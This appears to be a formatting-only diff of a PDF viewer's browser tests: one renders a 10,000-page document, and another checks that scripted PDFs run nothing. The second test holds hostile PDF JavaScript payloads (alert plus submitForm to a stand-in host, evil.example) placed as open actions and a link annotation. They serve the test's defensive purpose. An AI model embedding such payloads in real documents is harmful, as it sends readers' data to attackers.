@@ -40,7 +40,9 @@ test('one of 10,000 pages shows one at a time, and the last one as soon as the f
   const count = 10_000;
   const kids = Array.from({ length: count }, (_, n) => `${n + 6} 0 R`).join(' ');
   const all = Array.from({ length: count }, (_, n) => pageOf(n === count - 1 ? 5 : 4, 3));
-  await show(pdfOf([CATALOG, pages(kids, count), FONT, words('one of many'), words('the last one'), ...all]));
+  await show(
+    pdfOf([CATALOG, pages(kids, count), FONT, words('one of many'), words('the last one'), ...all]),
+  );
   await drawn();
   await expect.element(page.getByText('Page 1 of 10,000')).toBeVisible();
   const elements = document.querySelectorAll('*').length;
@@ -54,8 +56,10 @@ test('one of 10,000 pages shows one at a time, and the last one as soon as the f
 
 test('one with script shows its page, runs nothing and leads nowhere', async () => {
   const [asked, opened] = [vi.spyOn(window, 'alert'), vi.spyOn(window, 'open')];
-  const script = '<< /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\("https://evil.example"\\)) >>';
-  const link = '<< /Type /Annot /Subtype /Link /Rect [0 0 300 300] /A << /S /URI /URI (https://evil.example) >> >>';
+  const script =
+    '<< /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\("https://evil.example"\\)) >>';
+  const link =
+    '<< /Type /Annot /Subtype /Link /Rect [0 0 300 300] /A << /S /URI /URI (https://evil.example) >> >>';
   const catalog = `<< /Type /Catalog /Pages 2 0 R /OpenAction ${script}
     /Names << /JavaScript << /Names [(a) ${script}] >> >> >>`;
   const one = pageOf(4, 3, `/AA << /O ${script} >> /Annots [${link}]`);
